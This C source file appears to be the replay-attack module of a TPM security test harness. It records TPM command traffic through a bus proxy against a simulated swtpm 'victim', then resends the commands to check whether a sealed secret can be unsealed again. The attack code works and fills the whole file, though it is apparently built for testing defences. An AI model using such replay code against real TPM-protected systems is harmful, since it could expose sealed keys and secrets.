#include "attack/replay.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include "base/bytes.h"
#include "lib/tpmproxy.h"
#include "tpm/internal.h" /* sealed_parse() */

#define HEADER_LEN 10
#define PACKET_MAX 4096
#define CC_UNSEAL 0x15e

/* Commands and answers, one after the other, as they were heard. */
struct recording {
    uint8_t *bytes;
    size_t len;
};

static struct recording heard(struct tpmproxy *proxy)
{
    struct recording r = {0};
    const uint8_t *bytes = tpmproxy_traffic(proxy, &r.len);
    r.bytes = bytes != NULL ? malloc(r.len) : NULL;
    if (r.bytes == NULL)
        give_up("nothing was recorded", NULL);
    memcpy(r.bytes, bytes, r.len);
    return r;
}

static int dial(const struct victim *v)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    (void)snprintf(address.sun_path, sizeof(address.sun_path), "%s/s", v->swtpm.dir);
    int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || connect(fd, (struct sockaddr *)&address, sizeof(address)) != 0)
        give_up("the attacker cannot connect", NULL);
    return fd;
}

static bool receive(int fd, uint8_t *to, size_t len)
{
    while (len > 0) {
        ssize_t got = read(fd, to, len);
        if (got <= 0)
            return false;
        to += got;
        len -= (size_t)got;
    }
    return true;
}

/* @return the TPM's code. */
static uint32_t say(const struct victim *v, const uint8_t *command, size_t len)
{
    uint8_t answer[PACKET_MAX];
    int fd = dial(v);
    bool ok = send(fd, command, len, MSG_NOSIGNAL) == (ssize_t)len &&
              receive(fd, answer, HEADER_LEN) && be_get32(answer + 2) <= sizeof(answer) &&
              receive(fd, answer + HEADER_LEN, be_get32(answer + 2) - HEADER_LEN);
    (void)close(fd);
    if (!ok)
        give_up("no answer to a command that was sent again", NULL);
    return be_get32(answer + 6);
}

/* Every command again, in its order. */
static bool again(const struct victim *v, const struct recording *r)
{
    bool opened = false;
    bool command = true;
    for (size_t at = 0; at + HEADER_LEN <= r->len; command = !command) {
        const uint8_t *packet = r->bytes + at;
        size_t len = be_get32(packet + 2);
        if (len < HEADER_LEN || len > r->len - at)
            give_up("what was recorded makes no sense", NULL);
        if (command && say(v, packet, len) == 0 && be_get32(packet + 6) == CC_UNSEAL)
            opened = true;
        at += len;
    }
    return opened;
}

static void listen_in(struct tpmproxy *proxy, const struct victim *v)
{
    if (!tpmproxy_start(proxy, &v->swtpm))
        give_up("nobody can listen on this bus", NULL);
}

bool replay_of_the_service(struct attack *a)
{
    struct tpmproxy proxy;
    listen_in(&proxy, a->v);
    victim_reconnect(a->v, proxy.tcti);
    victim_honest(a->v);
    struct recording r = heard(&proxy);
    victim_step(a->v); /* the service's session lives on */
    bool opened = again(a->v, &r);
    victim_reconnect(a->v, NULL);
    tpmproxy_stop(&proxy);
    free(r.bytes);
    return opened;
}

bool replay_of_a_password(struct attack *a)
{
    struct tpmproxy proxy;
    struct means m;
    struct sealed s;
    const struct target *t = &a->k->target[AUTH_ALONE][a->t->window];
    listen_in(&proxy, a->v);
    if (!sealed_parse(&s, t->bytes, t->len) || !means_open(&m, proxy.tcti, TPM_SRK_DEFAULT))
        give_up("no connection by way of the listener", NULL);
    (void)means_unseal(&m, ESYS_TR_PASSWORD, &s.pub, &s.priv, a->k->seed_auth);
    means_close(&m);
    struct recording r = heard(&proxy);
    bool opened = again(a->v, &r);
    tpmproxy_stop(&proxy);
    free(r.bytes);
    return opened;
}
